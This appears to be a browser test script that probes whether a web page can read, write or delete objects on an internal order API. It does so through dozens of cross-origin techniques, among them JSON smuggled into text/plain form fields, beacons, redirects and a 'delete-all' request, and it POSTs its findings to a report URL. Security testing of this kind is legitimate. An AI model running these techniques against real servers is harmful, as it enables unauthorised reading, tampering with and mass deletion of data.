// What a web page can try against a server that it must not reach. TARGETS and REPORT are set before this runs.
//
// Each attempt returns what it could read of the answer, or fails. Those that write name their object after themselves.

const OBJECTS = "/apis/shop.example.com/v2/namespaces/west/orders";
const resource = name =>
  `/subscriptions/5a2f-shop/resourceGroups/west/providers/Example.Shop/orders/${name}?api-version=v2`;
const object = name => JSON.stringify({
  apiVersion: "shop.example.com/v2", kind: "Order", metadata: {name}, spec: {quantity: 66, note: "written by a web page"},
});
const frame = () => {
  const frame = document.createElement("iframe");
  frame.name = `frame${document.body.children.length}`;
  document.body.append(frame);
  return frame;
};
const once = (element, setUp) => new Promise((resolve, reject) => {
  element.onload = () => resolve(element);
  element.onerror = () => reject(new Error("it was not loaded"));
  setUp(element);
  document.body.append(element);
});
const pause = time => new Promise(resolve => setTimeout(resolve, time));
const load = (element, attribute, url) => once(document.createElement(element), it => it[attribute] = url);
const form = (action, method, enctype, fields) => {
  const form = document.createElement("form");
  Object.assign(form, {action, method, enctype, target: frame().name});
  for (const [name, value] of Object.entries(fields)) {
    const field = document.createElement("input");
    Object.assign(field, {type: "hidden", name, value});
    form.append(field);
  }
  document.body.append(form);
  form.submit();
};
// What text/plain makes of a field, `name=value`, is JSON.
const split = name => ({[object(name).slice(0, -1) + ',"x":"']: '"}'});
const text = async answer => (await answer).text();
const write = (method, type, body, mode = "cors") => ({method, mode, body, headers: type ? {"content-type": type} : {}});
const JSON_TYPE = "application/json", MERGE_TYPE = "application/merge-patch+json";
const MERGE = '{"spec": {"note": "written by a web page"}}';

// Reads, then writes, then removals, so that none is in the way of another.
const reads = at => ({
  "fetch": () => text(fetch(at + OBJECTS)),
  "fetch-with-credentials": () => text(fetch(at + OBJECTS, {credentials: "include"})),
  "fetch-no-cors": () => text(fetch(at + OBJECTS, {mode: "no-cors"})),
  "fetch-resource": () => text(fetch(at + resource("confidential"))),
  "fetch-metrics": () => text(fetch(at + "/metrics")),
  "fetch-ready": () => text(fetch(at + "/readyz")),
  "fetch-watch": () => text(fetch(at + OBJECTS + "?watch=true&timeoutSeconds=1")),
  "xhr": () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve(request.responseText);
    request.onerror = () => reject(new Error("no answer"));
    request.open("GET", at + OBJECTS);
    request.send();
  }),
  "form-get": () => form(at + OBJECTS, "get", "", {a: "b"}),
  "redirected": () => text(fetch("/redirect?" + at + OBJECTS)),
  "redirected-no-cors": () => text(fetch("/redirect?" + at + OBJECTS, {mode: "no-cors"})),
  "img": () => load("img", "src", at + OBJECTS),
  "script": () => load("script", "src", at + OBJECTS),
  "module": () => once(document.createElement("script"), it => Object.assign(it, {type: "module", src: at + OBJECTS})),
  "link": () => once(document.createElement("link"), it => Object.assign(it, {rel: "stylesheet", href: at + OBJECTS})),
  "iframe": async () => (await once(frame(), it => it.src = at + OBJECTS)).contentWindow.document.body.innerText,
  "navigation": async () => {
    const inner = frame();
    inner.contentWindow.location = at + OBJECTS;
    await pause(1000);
    return inner.contentWindow.document.body.innerText;
  },
  "popup": async () => {
    const popup = open(at + OBJECTS);
    await pause(1000);
    return popup.document.body.innerText;
  },
  "event-source": () => new Promise((resolve, reject) => {
    const source = new EventSource(at + OBJECTS + "?watch=true&timeoutSeconds=1");
    source.onmessage = event => resolve(event.data);
    source.onerror = () => { source.close(); reject(new Error("no events")); };
  }),
  "web-socket": () => new Promise((resolve, reject) => {
    const socket = new WebSocket(at.replace("http", "ws") + OBJECTS + "?watch=true");
    socket.onopen = () => resolve("it is open");
    socket.onerror = () => reject(new Error("no socket"));
  }),
  "worker": () => new Promise((resolve, reject) => {
    const code = `fetch("${at + OBJECTS}").then(it => it.text()).then(postMessage, error => postMessage(null))`;
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = event => event.data === null ? reject(new Error("no answer")) : resolve(event.data);
  }),
});

const writes = at => ({
  "post-text": () => text(fetch(at + OBJECTS, {method: "POST", body: object("post-text")})),
  "post-text-no-cors": () => text(fetch(at + OBJECTS, write("POST", "text/plain", object("post-text-no-cors"), "no-cors"))),
  "post-no-type": () => text(fetch(at + OBJECTS, write("POST", null, new Blob([object("post-no-type")]), "no-cors"))),
  "post-json": () => text(fetch(at + OBJECTS, write("POST", JSON_TYPE, object("post-json")))),
  "post-json-no-cors": () => text(fetch(at + OBJECTS, write("POST", JSON_TYPE, object("post-json-no-cors"), "no-cors"))),
  "post-keepalive": () => text(fetch(at + OBJECTS, {...write("POST", "text/plain", object("post-keepalive")), keepalive: true})),
  "post-redirected": () =>
    text(fetch("/redirect?" + at + OBJECTS, write("POST", "text/plain", object("post-redirected"), "no-cors"))),
  "put": () => text(fetch(at + OBJECTS + "/confidential", write("PUT", JSON_TYPE, object("confidential")))),
  "put-no-type": () => text(fetch(at + OBJECTS + "/confidential", write("PUT", null, new Blob([object("confidential")])))),
  "patch": () => text(fetch(at + OBJECTS + "/confidential", write("PATCH", MERGE_TYPE, MERGE))),
  "put-resource": () => text(fetch(at + resource("put-resource"), write("PUT", JSON_TYPE, '{"spec": {"quantity": 66}}'))),
  "patch-resource": () => text(fetch(at + resource("confidential"), write("PATCH", JSON_TYPE, MERGE))),
  "beacon-text": () => navigator.sendBeacon(at + OBJECTS, object("beacon-text")) && null,
  "beacon-no-type": () => navigator.sendBeacon(at + OBJECTS, new Blob([object("beacon-no-type")])) && null,
  "beacon-json": () => navigator.sendBeacon(at + OBJECTS, new Blob([object("beacon-json")], {type: JSON_TYPE})) && null,
  "ping": () => Object.assign(document.createElement("a"), {ping: at + OBJECTS, href: "#"}).click(),
  "form-fields": () => form(at + OBJECTS, "post", "application/x-www-form-urlencoded", split("form-fields")),
  "form-multipart": () => form(at + OBJECTS, "post", "multipart/form-data", split("form-multipart")),
  "form-redirected": () => form("/redirect?" + at + OBJECTS, "post", "text/plain", split("form-redirected")),
  "form-text": () => form(at + OBJECTS, "post", "text/plain", split("form-text")),
});

const removals = at => ({
  "delete": () => text(fetch(at + OBJECTS + "/confidential", {method: "DELETE"})),
  "delete-all": () => text(fetch(at + OBJECTS, {method: "DELETE"})),
  "delete-resource": () => text(fetch(at + resource("confidential"), {method: "DELETE"})),
});

const report = {};
const attempt = async (target, name, run) => {
  const late = pause(10000).then(() => { throw new Error("it took too long"); });
  try {
    const got = await Promise.race([run(), late]);
    report[target][name] = {got: got instanceof Node ? "it was loaded" : got ?? null};
  } catch (error) {
    report[target][name] = {failed: String(error)};
  }
};

(async () => {
  for (const target of TARGETS) {
    report[target] = {};
    for (const all of [reads, writes, removals]) {
      await Promise.all(Object.entries(all(target)).map(([name, run]) => attempt(target, name, run)));
    }
  }
  await fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify(report)});
})();
